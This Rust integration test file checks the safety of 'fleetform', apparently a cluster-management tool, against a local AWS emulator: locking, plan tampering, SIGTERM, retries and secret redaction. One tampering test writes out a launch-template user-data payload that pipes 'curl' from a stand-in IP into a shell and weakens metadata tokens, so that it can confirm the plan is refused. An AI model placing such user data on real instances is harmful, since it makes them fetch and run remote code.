//! Safety of the mutating commands against the local AWS emulator: plans made under the lock,
//! saved plans verified as a whole, an idempotent lock, SIGTERM, typed errors that never mistake
//! an unreadable lock for "no lock", the state store signed for its bucket's region, retry
//! settings of the profile, waves for every multi-cluster command.

use std::time::Duration;

use crate::aws::Moto;
use crate::common::*;

const STAGING: &str = "staging.k8s.foo.bar";
const PROD: &str = "prod-customer.k8s.foo.bar";
const BUCKET: &str = "foo-bar-fleet-state";

use crate::aws::{apply_staging as apply, example_setup as setup};

/// Objects under the cluster's state-store prefix: (lock present, history keys).
fn state(moto: &Moto, cluster: &str) -> (bool, Vec<String>) {
    let out = moto.py(&format!("print(json.dumps([o['Key'] for o in s3.list_objects_v2(Bucket='{BUCKET}', Prefix='{cluster}/fleetform/').get('Contents', [])]))"));
    let keys: Vec<String> = serde_json::from_str(out.trim()).unwrap();
    (keys.iter().any(|k| k.ends_with("lock.json")), keys.into_iter().filter(|k| k.contains("/history/")).collect())
}

fn history_results(moto: &Moto, cluster: &str) -> Vec<String> {
    let out = moto.py(&format!(
        "print(json.dumps([json.loads(s3.get_object(Bucket='{BUCKET}', Key=o['Key'])['Body'].read())['result'] for o in s3.list_objects_v2(Bucket='{BUCKET}', Prefix='{cluster}/fleetform/history/').get('Contents', [])]))"
    ));
    serde_json::from_str(out.trim()).unwrap()
}

fn max_sizes(moto: &Moto, region: &str) -> serde_json::Value {
    serde_json::from_str(&moto.py(&format!(
        "print(json.dumps({{g['AutoScalingGroupName']: g['MaxSize'] for g in asg('{region}').describe_auto_scaling_groups()['AutoScalingGroups']}}, sort_keys=True))"
    )))
    .unwrap()
}

fn template_versions(moto: &Moto) -> serde_json::Value {
    serde_json::from_str(&moto.py(
        "print(json.dumps({t['LaunchTemplateName'].split('.')[0]: t['LatestVersionNumber'] for t in ec2('eu-west-1').describe_launch_templates()['LaunchTemplates']}, sort_keys=True))",
    ))
    .unwrap()
}

/// Two pipelines applying the same cluster at the same moment, 20 times over, each time with
/// work to do. Whoever wins the race, the answer is the same: both succeed (the second waited
/// for the lock, re-read AWS and found nothing left to do) or the loser names the lock — never
/// an ownership error from a read made while the winner was between two calls, never a
/// duplicate template version.
#[test]
fn two_applies_at_once_twenty_rounds_never_interleave() {
    let (moto, repo) = setup();
    let rounds = 20;
    for round in 0..rounds {
        let max = format!("spot.maxSize={}", 11 + round);
        let typ = if (round / 2) % 2 == 0 { "prometheus.machineType=r5.4xlarge" } else { "prometheus.machineType=r5.2xlarge" };
        let mut args = vec!["apply", "--cluster", STAGING, "--yes", "--set", &max, "--set", typ];
        // Odd rounds wait for the lock (both must succeed); even rounds fail at once (the
        // loser must name the lock).
        if round % 2 == 1 {
            args.extend(["--lock-timeout", "2m"]);
        }
        let (a, b) = (moto.spawn(&repo, &args, true), moto.spawn(&repo, &args, true));
        let outs = [a.wait_with_output().unwrap(), b.wait_with_output().unwrap()];
        let mut winners = 0;
        for o in &outs {
            let err = String::from_utf8_lossy(&o.stderr);
            assert!(!err.contains("not managed by fleetform") && !err.contains("belongs to cluster"), "round {round}: a wrong diagnosis from a racing read:\n{err}");
            match o.status.code() {
                Some(0) => winners += 1,
                Some(1) if round % 2 == 0 => assert!(err.contains("the cluster is locked: lock"), "round {round}: the loser names the lock:\n{err}"),
                c => panic!("round {round}: exit {c:?}:\n{err}"),
            }
        }
        assert!(winners >= 1, "round {round}: someone applied");
        if round % 2 == 1 {
            assert_eq!(winners, 2, "round {round}: with a lock timeout both succeed");
        }
        let p = moto.run(&repo, &["plan", "--cluster", STAGING, "--detailed-exitcode", "--set", &max, "--set", typ]);
        assert_eq!(code(&p), 0, "round {round}: converged\n{}{}", stdout(&p), stderr(&p));
        assert!(!state(&moto, STAGING).0, "round {round}: no lock left behind");
    }
    // Round 0 created the templates (prometheus at r5.4xlarge: version 1); its type changed in
    // every second round after (rounds 2, 4, … 18): 9 new versions, no duplicate.
    let v = template_versions(&moto);
    assert_eq!(v["prometheus-nodes"], 10, "{v}");
    assert_eq!(v["spot-nodes-app-4x"], 1, "{v}");
    assert_eq!(max_sizes(&moto, "eu-west-1").as_object().unwrap().len(), 6, "no duplicate groups");
}

/// A saved plan is verified as a whole; each kind of tampering is refused and changes nothing.
#[test]
fn tampered_saved_plans_change_nothing() {
    let (moto, repo) = setup();
    assert_eq!(code(&apply(&moto, &repo, &[])), 0);
    let file = repo.path().join("p.json");
    let f = file.to_str().unwrap();
    assert_eq!(code(&moto.run(&repo, &["plan", "--cluster", STAGING, "--set", "spot.maxSize=12", "--out", f])), 0);
    let mode = std::fs::metadata(&file).unwrap().permissions();
    assert_eq!(std::os::unix::fs::PermissionsExt::mode(&mode) & 0o777, 0o600, "a plan holds user data: private");
    let before = max_sizes(&moto, "eu-west-1");
    let original = std::fs::read_to_string(&file).unwrap();
    let edit = |name: &str, code: &str, fix_checksum: bool| -> String {
        // `code` edits `p` (the parsed plan) in Python; the checksum is recomputed the way
        // fleetform computes it when `fix_checksum` (an attacker who read the source).
        let out = moto.py(&format!(
            r#"
import hashlib
p = json.loads(open('{f}').read())
{code}
if {fix}:
    p['checksum'] = 'sha256:' + hashlib.sha256(json.dumps(p['clusters'], separators=(',', ':'), ensure_ascii=False).encode()).hexdigest()
path = '{f}.{name}'
open(path, 'w').write(json.dumps(p, indent=2))
print(path)
"#,
            fix = if fix_checksum { "True" } else { "False" }
        ));
        out.trim().to_string()
    };
    let user_data = "p['clusters'][0]['plan']['steps'] = [s for s in p['clusters'][0]['plan']['steps']]\nfor c in p['clusters']:\n    for g in c['desired']['groups'].values():\n        g['launchTemplate']['userData'] = '#!/bin/sh\\ncurl http://198.51.100.1/x | sh'\n        g['launchTemplate']['httpTokens'] = 'optional'";
    let cases: Vec<(&str, String, &str)> = vec![
        ("edited", edit("edited", user_data, false), "was changed after it was saved"),
        (
            "edited-and-rechecksummed",
            edit("resummed", &format!("{user_data}\nfor s in p['clusters'][0]['plan']['steps']:\n    if s['step'] == 'updateAutoScalingGroup': s['after']['maxSize'] = 12"), true),
            "the file was edited, or AWS changed in a way the fingerprint does not cover",
        ),
        (
            "state store moved",
            edit("store", "p['clusters'][0]['desired']['stateStore'] = 's3://elsewhere/x'", true),
            "the lock would be taken elsewhere",
        ),
        (
            "a group the plan does not describe",
            edit(
                "ghost",
                "s = [s for s in p['clusters'][0]['plan']['steps'] if s['step'] == 'updateAutoScalingGroup'][0]\nimport copy\ng = copy.deepcopy(s)\ng['name'] = 'ghost.staging.k8s.foo.bar'\np['clusters'][0]['plan']['steps'].append(g)",
                true,
            ),
            "the file was edited, or AWS changed in a way the fingerprint does not cover",
        ),
        ("schema 99", edit("v99", "p['schemaVersion'] = 99", false), "is a plan of format 99"),
        ("not a plan", edit("kind", "p['kind'] = 'something-else'", false), "is not a plan saved by `fleetform plan --out`"),
        ("no clusters", edit("empty", "p['clusters'] = []", true), "holds no clusters"),
    ];
    for (what, path, want) in &cases {
        let o = moto.run(&repo, &["apply", path, "--yes"]);
        let err = stderr(&o);
        assert_eq!(code(&o), 1, "{what}: refused\n{err}");
        assert!(err.contains(want), "{what}: `{want}` in\n{err}");
        assert!(!err.contains("panicked"), "{what}: {err}");
        assert_eq!(max_sizes(&moto, "eu-west-1"), before, "{what}: nothing changed on AWS");
        assert!(!state(&moto, STAGING).0, "{what}: no lock left behind");
    }
    // A plan of staging applied with --cluster of another cluster: refused, nothing applied.
    let o = moto.run(&repo, &["apply", f, "--cluster", PROD, "--yes"]);
    assert_eq!(code(&o), 1);
    assert!(stderr(&o).contains(&format!("holds no plan for `{PROD}`")), "{}", stderr(&o));
    assert_eq!(max_sizes(&moto, "eu-west-1"), before);
    // The untouched plan still applies, and shows the steps it carries out.
    assert_eq!(std::fs::read_to_string(&file).unwrap(), original);
    let o = moto.run(&repo, &["apply", f, "--cluster", STAGING, "--yes"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(stdout(&o).contains("maxSize         10 -> 12"), "{}", stdout(&o));
    assert_eq!(max_sizes(&moto, "eu-west-1")[format!("spot-nodes-app-4x.{STAGING}")], 12);
}

/// The answer to the lock's PutObject is lost; the SDK retries; the retry finds our own lock.
#[test]
fn a_lost_answer_to_the_lock_write_is_our_own_lock() {
    let (mut moto, repo) = setup();
    let log = repo.path().join("proxy.log");
    let ep = moto.proxy(&["--drop-reply", &format!("PUT /{BUCKET}/{STAGING}/fleetform/lock.json"), "--log", log.to_str().unwrap()]);
    let o = moto.fleetform(&repo, Some(&ep)).args(["apply", "--cluster", STAGING, "--yes"]).output().unwrap();
    let err = stderr(&o);
    assert_eq!(code(&o), 0, "{err}");
    assert!(!err.contains("locked"), "{err}");
    let puts = std::fs::read_to_string(&log).unwrap().lines().filter(|l| l.starts_with(&format!("PUT /{BUCKET}/{STAGING}/fleetform/lock.json"))).count();
    assert_eq!(puts, 2, "the first answer was lost and the write retried");
    let (locked, history) = state(&moto, STAGING);
    assert!(!locked, "released");
    assert_eq!(history.len(), 1);
}

/// SIGTERM (how Jenkins and Kubernetes cancel a job) stops between steps like Ctrl-C.
#[test]
fn sigterm_stops_between_steps_releases_the_lock_and_records_it() {
    let (mut moto, repo) = setup();
    let ep = moto.proxy(&["--delay-ms", "300"]);
    let child = moto.spawn_at(&repo, &ep, &["apply", "--cluster", STAGING, "--yes"], true);
    // Once the lock is taken, the apply is under way (its steps come right after).
    let start = std::time::Instant::now();
    while !state(&moto, STAGING).0 {
        assert!(start.elapsed() < Duration::from_secs(60), "the apply never took its lock");
        std::thread::sleep(Duration::from_millis(50));
    }
    std::thread::sleep(Duration::from_millis(700));
    assert!(std::process::Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap().success());
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("terminated: stopping after the current step"), "{err}");
    assert!(err.contains("not done:"), "{err}");
    assert!(!state(&moto, STAGING).0, "the lock was released");
    assert_eq!(history_results(&moto, STAGING), vec!["interrupted"], "the audit trail says so");
    assert_eq!(code(&apply(&moto, &repo, &[])), 0, "running it again finishes the work");
}

/// The example's one bucket (in us-east-1) serves clusters in eu-west-1 and eu-west-3: every
/// state-store request is signed for the bucket's region, as real S3 requires.
#[test]
fn the_state_store_is_signed_for_its_buckets_region() {
    let (mut moto, repo) = setup();
    let log = repo.path().join("proxy.log");
    let ep = moto.proxy(&["--log", log.to_str().unwrap()]);
    let o = moto.fleetform(&repo, Some(&ep)).args(["apply", "--all", "--yes"]).output().unwrap();
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let log = std::fs::read_to_string(&log).unwrap();
    let s3: Vec<&str> = log.lines().filter(|l| l.contains(" s3 ")).collect();
    assert!(s3.iter().any(|l| l.contains(&format!("/{PROD}/fleetform/lock.json"))), "{log}");
    assert!(s3.iter().all(|l| l.ends_with(" us-east-1")), "every state-store request signed for us-east-1:\n{}", s3.join("\n"));
    let lookups = s3.iter().filter(|l| l.contains("location")).count();
    assert_eq!(lookups, 1, "the bucket's region is looked up once per run:\n{}", s3.join("\n"));
}

/// `max_attempts` in the profile is honoured; fleetform's own default (adaptive, 5 attempts)
/// applies only when neither the environment nor the profile sets one.
#[test]
fn retry_settings_of_the_profile_are_honoured() {
    let (mut moto, repo) = setup();
    let config = repo.path().join("aws-config");
    std::fs::write(&config, "[default]\nmax_attempts = 1\n").unwrap();
    let ep = moto.proxy(&["--throttle", "1", "--match", "Action=CreateLaunchTemplate"]);
    let o = moto.fleetform(&repo, Some(&ep)).env("AWS_CONFIG_FILE", &config).args(["apply", "--cluster", STAGING, "--yes"]).output().unwrap();
    assert_eq!(code(&o), 1, "one attempt, as the profile says: {}", stderr(&o));
    assert!(stderr(&o).contains("AWS error RequestLimitExceeded") && stderr(&o).contains("throttled past the retry budget"), "{}", stderr(&o));
    // The same throttle without the profile setting: retried, and the apply finishes.
    let ep = moto.proxy(&["--throttle", "1", "--match", "Action=CreateLaunchTemplate"]);
    let o = moto.fleetform(&repo, Some(&ep)).args(["apply", "--cluster", STAGING, "--yes"]).output().unwrap();
    assert_eq!(code(&o), 0, "{}", stderr(&o));
}

/// A lock object that is not a fleetform lock is never read as "no lock".
#[test]
fn an_unreadable_lock_is_never_no_lock() {
    let (moto, repo) = setup();
    moto.py(&format!("s3.put_object(Bucket='{BUCKET}', Key='{STAGING}/fleetform/lock.json', Body=b'{{\"id\": trunc')"));
    let o = apply(&moto, &repo, &[]);
    assert_eq!(code(&o), 1);
    let err = stderr(&o);
    assert!(err.contains("an unreadable lock object") && err.contains(&format!("fleetform unlock --cluster {STAGING} --force-unreadable")), "{err}");
    assert_eq!(max_sizes(&moto, "eu-west-1").as_object().unwrap().len(), 0, "nothing created");
    let o = moto.run(&repo, &["unlock", "--cluster", STAGING, "abc", "--yes"]);
    assert_eq!(code(&o), 1);
    assert!(stderr(&o).contains("is not a readable fleetform lock") && !stderr(&o).contains("was not locked"), "{}", stderr(&o));
    let o = moto.run(&repo, &["unlock", "--cluster", STAGING, "--force-unreadable", "--yes"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert!(!state(&moto, STAGING).0);
    assert_eq!(code(&apply(&moto, &repo, &[])), 0);
}

/// An audit record that cannot be read is reported, never dropped in silence.
#[test]
fn an_unreadable_audit_record_is_reported() {
    let (moto, repo) = setup();
    assert_eq!(code(&apply(&moto, &repo, &[])), 0);
    moto.py(&format!("s3.put_object(Bucket='{BUCKET}', Key='{STAGING}/fleetform/history/2026-01-01T000000Z-bad.json', Body=b'not json')"));
    let o = moto.run(&repo, &["history", "--cluster", STAGING]);
    assert_eq!(code(&o), 1);
    assert!(stderr(&o).contains("2026-01-01T000000Z-bad.json is not a readable audit record"), "{}", stderr(&o));
    assert!(stdout(&o).contains("30 created, 2 updated, 0 deleted"), "the readable ones are still listed: {}", stdout(&o));
}

/// `apply --all` goes wave by wave: production (wave 1) starts only after staging (wave 0)
/// applied and validated; `--wave N` selects one wave.
#[test]
fn apply_all_goes_wave_by_wave() {
    let (moto, repo) = setup();
    repo.write(
        "vars/_zz-test.yaml",
        "hooks:\n  validate: test \"$FLEETFORM_CLUSTER\" != staging.k8s.foo.bar\nvalidation:\n  validationTimeout: 1s\n",
    );
    let o = moto.run(&repo, &["apply", "--all", "--yes"]);
    assert_eq!(code(&o), 1);
    let err = stderr(&o);
    assert!(err.contains(&format!("{STAGING}: validation failed: validate hook")), "{err}");
    assert!(err.contains(&format!("wave 0 failed; later waves were not started: {PROD}")), "{err}");
    assert_eq!(max_sizes(&moto, "eu-west-1").as_object().unwrap().len(), 6, "staging applied");
    assert_eq!(max_sizes(&moto, "eu-west-3").as_object().unwrap().len(), 0, "production not started");
    let o = moto.run(&repo, &["apply", "--all", "--yes", "--wave", "1"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    assert_eq!(max_sizes(&moto, "eu-west-3").as_object().unwrap().len(), 6, "wave 1 alone");
}

/// An error in a shared vars file is one error naming every cluster it fails; JSON lists the
/// clusters by their names, never by the file's.
#[test]
fn an_error_in_a_shared_file_names_the_clusters_it_fails() {
    let (moto, repo) = setup();
    repo.replace("vars/_defaults.yaml", "wave: 0", "wave: [0");
    let o = moto.run(&repo, &["plan", "--all", "--output", "json"]);
    assert_eq!(code(&o), 1);
    let v: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    let names: Vec<&str> = v["clusters"].as_array().unwrap().iter().map(|c| c["name"].as_str().unwrap()).collect();
    assert_eq!(names, vec![PROD, STAGING]);
    let err = stderr(&o);
    assert_eq!(err.matches("vars/_defaults.yaml:").count(), 1, "reported once:\n{err}");
    assert!(err.contains(&format!("this error fails cluster(s) `{PROD}`, `{STAGING}`")), "{err}");
}

/// `--set` values may be secrets passed by CI: the lock and the audit trail keep their keys only.
#[test]
fn set_values_are_not_stored_in_the_lock_or_the_audit_trail() {
    let (moto, repo) = setup();
    let o = apply(&moto, &repo, &["--set", "team=s3cr3t-token-value"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let all = moto.py(&format!(
        "print('\\n'.join(s3.get_object(Bucket='{BUCKET}', Key=o['Key'])['Body'].read().decode() for o in s3.list_objects_v2(Bucket='{BUCKET}').get('Contents', [])))"
    ));
    assert!(all.contains("--set team=***"), "{all}");
    assert!(!all.contains("s3cr3t"), "{all}");
    let o = moto.run(&repo, &["history", "--cluster", STAGING]);
    assert!(!stdout(&o).contains("s3cr3t"));
}
